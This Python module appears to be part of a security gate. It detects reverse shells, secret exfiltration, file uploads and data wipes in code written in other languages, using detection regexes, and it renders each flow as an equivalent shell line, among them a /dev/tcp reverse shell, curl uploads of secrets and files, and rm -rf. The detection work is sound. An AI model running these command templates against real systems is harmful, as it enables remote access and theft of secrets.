"""Flows that code shows in its text whatever its language, for the languages the gate reads only for
their literal calls (``scripting``: JavaScript, Ruby, R, Julia, Tcl …; ``foreign_code``: Java's shells,
Go, Octave …). Each flow becomes the shell command line that does the same, so that Tier 1 judges it as
it judges the shell:

- a **reverse shell**: a socket connected to a host (``socket HOST PORT``, ``connect("HOST", PORT)``,
  ``net.Dial("tcp", "HOST:PORT")``, ``new Socket("HOST", PORT)``) and a shell started on what comes in
  (``exec sh -c $c``, `` `sh -c $c` ``, ``exec.Command("/bin/sh")``, ``Runtime.getRuntime().exec(…)``)
  → ``sh -i >& /dev/tcp/HOST/PORT 0>&1``;
- a **secret variable sent**: a secret-named variable read (``getenv("AWS_SECRET_ACCESS_KEY")``,
  ``ENV["GITHUB_TOKEN"]``, ``$env(…)``, ``$env:…``, ``Sys.getenv``, ``os.Getenv``, ``System.getenv``) by code
  that talks to the network (a URL, a socket, a DNS lookup, an HTTP client) → ``curl -d "$NAME" URL``;
- a **file sent**: a literal path named by such code → ``curl --data-binary @PATH URL`` (a secret's is
  exfiltration; any other file's an upload);
- a **tree deleted**: Java's ``Files.walk(Path.of(P))…delete`` → ``rm -rf -- P``.

The home directory in these languages (``System.getProperty("user.home")``, ``homedir()``,
``os.UserHomeDir()``, ``getenv("HOME")``, ``Sys.getenv("HOME")``) is ``~``, and a literal joined to it
(``[getenv("HOME") "/proj"]``, ``home + "/proj"``) is the path ``~/proj``.
"""
from __future__ import annotations

import re
import shlex
from typing import Final

from phlegyas.core.redact import secret_kind

_HOST_PORT: Final = r"""["']?([\w.:-]+?)["']?\s*,\s*["']?(\d{1,5})\b"""
_SOCKETS: Final = (
    re.compile(r"\bsocket\s+(?:-\w+\s+)*([\w.-]+)\s+(\d{1,5})\b"),  # Tcl
    re.compile(r"\b(?:connect|Socket|TCPSocket(?:\.new|\.open)?|fsockopen|createConnection|socket\.connect|"
               r"socketConnection)\s*\(\s*(?:host\s*=\s*)?" + _HOST_PORT),
    re.compile(r"\bnew\s+(?:java\.net\.)?Socket\s*\(\s*" + _HOST_PORT),
    re.compile(r"""\b(?:net\.Dial|DialTCP|Dial)\s*\(\s*"(?:tcp|udp)[46]?"\s*,\s*"([\w.-]+):(\d{1,5})\""""),
    re.compile(r"\bTcpClient\s*\(\s*" + _HOST_PORT),
    re.compile(r"""IO::Socket::INET->new\(\s*(?:PeerAddr\s*=>\s*)?["']([\w.-]+):(\d{1,5})["']"""),
)
_SHELL_STARTS: Final = re.compile(
    r"""\bexec\s+(?:/bin/)?(?:ba|z|da)?sh\b|`\s*(?:/bin/)?(?:ba)?sh\s+-c\b|\b(?:ba)?sh\s+-c\s+\$|"""
    r"""exec\.Command\(\s*"(?:/bin/)?(?:ba)?sh"|Runtime\.getRuntime\(\)\.exec|ProcessBuilder|"""
    r"""\b(?:system|run|spawn|popen|exec|shell|read)\s*\(\s*`|\bcmd\.exe\b|/bin/(?:ba)?sh\b|"""
    r"""`\s*\$\w+\s*`|\b(?:system|exec|qx|shell_exec|passthru|popen)\s*\(?\s*\$\w+""")
_NETWORK: Final = re.compile(
    r"""https?://|\bsocket\b|Socket|\bconnect\s*\(|net\.Dial|\bgetaddress\b|gethostbyname|getaddrinfo|"""
    r"""InetAddress\.getByName|\bResolv\b|dns\.resolve|LookupHost|Resolve-DnsName|httr::|\bcurl::|"""
    r"""\bPOST\s*\(|Invoke-WebRequest|Invoke-RestMethod|WebClient|HttpClient|http\.Post|openStream|"""
    r"""\bdownload(?:\.file)?\s*\(|\burl\s*\(|nslookup|UdpClient""")
_SECRET_READS: Final = re.compile(
    r"""(?:getenv|Getenv|GetEnvironmentVariable|Sys\.getenv|ENV\.fetch|env::var)\s*\(\s*["'](\w+)["']|"""
    r"""\bENV\s*\[\s*["'](\w+)["']\s*\]|\$ENV\{\s*["']?(\w+)["']?\s*\}|\$env\((\w+)\)|\$\{?env:(\w+)\}?|"""
    r"""process\.env\.(\w+)|process\.env\[\s*["'](\w+)["']\s*\]""")
_PATHS: Final = re.compile(r"""["'](?:[+]?[<>]{1,2}\s*)?((?:~|/)[^"'\s]{1,200})["']""")  # perl's "<~/.netrc" too
_URL: Final = re.compile(r"""https?://[^\s'"`)\]]+""")
_HOME_EXPR: Final = re.compile(
    r"""System\.getProperty\(\s*"user\.home"\s*\)|\bhomedir\(\s*\)|os\.UserHomeDir\(\)|"""
    r"""(?:Sys\.)?getenv\(\s*["']HOME["']\s*\)|\bDir\.home\b|\$env:(?:HOME|USERPROFILE)\b|\$env\(HOME\)|"""
    r"""System\.user_home!?\(\s*\)""")
_JOINED: Final = re.compile(r""""~"\s*(?:\+|\.\.|\.|,)?\s*["']/([^"']*)["']""")
_WALK_DELETE: Final = re.compile(r"""Files\.walk\(\s*(?:java\.nio\.file\.)?(?:Path\.of|Paths\.get)\(\s*"([^"]+)"\s*\)""")


_SQL_TEXT: Final = re.compile(r"""(["'])\s*((?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|TRUNCATE|DELETE\s+FROM)\b"""
                              r"""[^"']{0,200})\1""", re.I)
_ORM_WIPE: Final = re.compile(r"""\.objects\.all\(\)\.delete\(\)|\.delete_all\b|\.destroy_all\b|"""
                              r"""\.deleteMany\(\s*\{\s*\}\s*\)|\.truncate\(\s*\)|"""
                              r"""\.destroy\(\s*\{\s*(?:where:\s*\{\s*\},\s*)?truncate:\s*true""")


def home_literals(code: str) -> str:
    """``code`` with its home-directory expressions as the literal ``"~"`` and literals joined to one
    (``[getenv("HOME") "/proj"]``) as one literal (``"~/proj"``)."""
    code = _HOME_EXPR.sub('"~"', code)
    return _JOINED.sub(lambda m: '"~/' + m.group(1) + '"', code)


def code_flows(code: str) -> list[str]:
    """The shell command lines that do what ``code``'s flows do (see the module docstring)."""
    code = home_literals(code)
    out: list[str] = []
    if _SHELL_STARTS.search(code):
        for pattern in _SOCKETS:
            m = pattern.search(code)
            if m is not None:
                out.append(f"sh -i >& /dev/tcp/{_word(m.group(1))}/{m.group(2)} 0>&1")
                break
    if _NETWORK.search(code):
        found = _URL.search(code)
        url = shlex.quote(found.group(0) if found else "https://the-code-s-peer.invalid/")
        for m in _SECRET_READS.finditer(code):
            name = next(g for g in m.groups() if g)
            if secret_kind(name) is not None:
                out.append(f'curl -d "${name}" {url}')
        for path in dict.fromkeys(_PATHS.findall(code)):
            if not path.startswith(("//", "/dev/null")):
                out.append(f"curl --data-binary @{_path(path)} {url}")
    for m in _SQL_TEXT.finditer(code):  # `c.execute("TRUNCATE #{t} CASCADE")`: the statement a string holds
        out.append("psql -c " + shlex.quote(re.sub(r"#\{[^}]*\}|\$\{[^}]*\}|%[sd]|\{\w*\}", "x", m.group(2))))
    if _ORM_WIPE.search(code):  # `Model.objects.all().delete()`, `Model.delete_all`, `deleteMany({})`
        out.append("psql -c 'DELETE FROM every_table'")
    for path in _WALK_DELETE.findall(code):
        if ".delete" in code or "::delete" in code or "deleteIfExists" in code:
            out.append(f"rm -rf -- {_path(path)}")
    return out[:20]


def _word(text: str) -> str:
    return "".join(c for c in text if c.isalnum() or c in ".-:") or "unknown.invalid"


def _path(text: str) -> str:
    """A path of the code as a shell word: ``~`` keeps its meaning, anything else is quoted."""
    if text == "~" or text.startswith("~/"):
        return "~" + shlex.quote(text[1:]) if len(text) > 1 else "~"
    return shlex.quote(text)


__all__ = ["code_flows", "home_literals"]
